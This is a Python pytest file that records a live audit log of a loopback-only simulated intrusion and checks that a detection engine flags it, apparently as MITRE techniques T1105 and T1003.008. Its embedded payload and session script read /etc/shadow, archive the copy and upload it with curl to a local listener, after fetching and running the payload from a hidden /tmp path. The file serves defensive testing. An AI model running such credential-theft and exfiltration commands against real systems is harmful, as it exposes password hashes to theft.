"""Record a fresh kernel audit log of a loopback-only attack and detect it.

Benign commands and a small attack run in one audited session (login uid set):
download a script from a local HTTP server into a hidden /tmp dir, make it
executable, run it; it reads /etc/shadow, archives the copy and uploads it to
a local listener. Everything stays on 127.0.0.1.
"""

from __future__ import annotations

import http.server
import os
import socket
import socketserver
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

from detection.engine import DetectionEngine

from .audit_recorder import AuditRecorder, RecorderUnavailable

pytestmark = pytest.mark.audit

PAYLOAD = """#!/bin/sh
# test payload: collect credentials, stage, archive, exfiltrate to a local listener
cat /etc/shadow > "$1/s.txt" 2>/dev/null
tar czf "$1/s.tgz" -C "$1" s.txt
curl -s -m 5 --data-binary @"$1/s.tgz" http://127.0.0.1:$2/up >/dev/null 2>&1 || true
"""


class _Sink(socketserver.BaseRequestHandler):
    def handle(self):
        try:
            self.request.settimeout(2)
            while self.request.recv(65536):
                pass
        except OSError:
            pass


def _serve(directory: str):
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(  # noqa: E731
        *a, directory=directory, **k
    )
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


@pytest.fixture(scope="module")
def live_log(tmp_path_factory):
    """Record the scenario once: (log path, pid of the audited session)."""
    try:
        AuditRecorder.check_available()
    except RecorderUnavailable as exc:
        pytest.skip(f"cannot record a live audit log: {exc}")
    tmp_path = tmp_path_factory.mktemp("live-audit")
    www = tmp_path / "www"
    www.mkdir()
    (www / "update.sh").write_text(PAYLOAD)
    http_srv = _serve(str(www))
    sink = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Sink)
    sink.daemon_threads = True
    threading.Thread(target=sink.serve_forever, daemon=True).start()
    stage = Path(tempfile.mkdtemp(prefix=".hw-cache-", dir="/tmp"))
    log = tmp_path / "audit.log"
    script = f"""
set -u
id >/dev/null; uname -a >/dev/null; ls /tmp >/dev/null; date >/dev/null
curl -s -o {stage}/.upd http://127.0.0.1:{http_srv.server_address[1]}/update.sh
chmod +x {stage}/.upd
{stage}/.upd {stage} {sink.server_address[1]}
rm -f {stage}/s.txt
"""
    try:
        with AuditRecorder(log) as rec:
            proc = rec.popen(
                ["/bin/bash", "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            proc.wait(timeout=60)
            session_pid = proc.pid
            time.sleep(0.5)  # let auditd write the last records
    finally:
        http_srv.shutdown()
        sink.shutdown()
        subprocess.run(["rm", "-rf", str(stage)], check=False)
    status = subprocess.run(["auditctl", "-s"], capture_output=True, text=True).stdout
    assert "pid 0" in status  # our auditd is gone
    lines = log.read_text(errors="replace").splitlines()
    assert len(lines) > 20, f"audit log too short ({len(lines)} lines): {lines[:5]}"
    return log, session_pid


def test_live_recording_detects_download_shadow_exfil(live_log):
    log, session_pid = live_log
    lines = log.read_text(errors="replace").splitlines()
    eng = DetectionEngine(host=socket.gethostname())
    res = eng.process_lines(lines)
    res2 = eng.flush()
    assert not [e for e in res.errors + res2.errors if "type=" in str(e[0])[:6]], res.errors[:3]
    alerts = [a for a in eng.alerts("medium")]
    assert alerts, f"no medium+ alert; all: {[a['techniques'] for a in eng.alerts()]}"
    best = max(alerts, key=lambda a: len(a["techniques"]))
    for tid in ("T1105", "T1003.008"):
        assert tid in best["techniques"], best["techniques"]
    pids = {c["pid"] for c in best["chain"] if c["type"] == "process"}
    assert session_pid in pids or best["root"]["pid"] == session_pid, (session_pid, pids)


@pytest.mark.integration
def test_live_recording_through_the_real_pipeline(live_log, kafka_bootstrap, redis_url, tmp_path):
    """The fresh log shipped by `ship-audit` through the broker and a worker process."""
    import json

    from core.settings import Settings
    from streams.audit_shipper import ship_audit
    from tests.stackutil import Service, alerts_in_redis, service_env, wait_until

    log, session_pid = live_log
    prefix = f"live{os.getpid()}-"
    env = service_env(kafka_bootstrap, redis_url, prefix, tmp_path, HEADWATER_CONTENT_ENCODER="hashing")
    worker = Service("worker", env, tmp_path / "logs")
    host = f"live-{os.getpid()}"

    def alerts():
        found = alerts_in_redis(redis_url, host, "medium")
        return [a for a in found if {"T1105", "T1003.008"} <= set(a["techniques"])]

    try:
        shipped = ship_audit(Settings(topic_prefix=prefix), kafka_bootstrap, log, host,
                             tmp_path / "pos")
        assert shipped > 20
        found = wait_until(alerts, 120, what="the live alert from the pipeline", on_fail=worker.log)
        chain_pids = {c.get("pid") for c in found[0]["chain"] if c.get("type") == "process"}
        assert session_pid in chain_pids or found[0]["root"]["pid"] == session_pid, json.dumps(found[0])[:2000]
    finally:
        worker.stop()
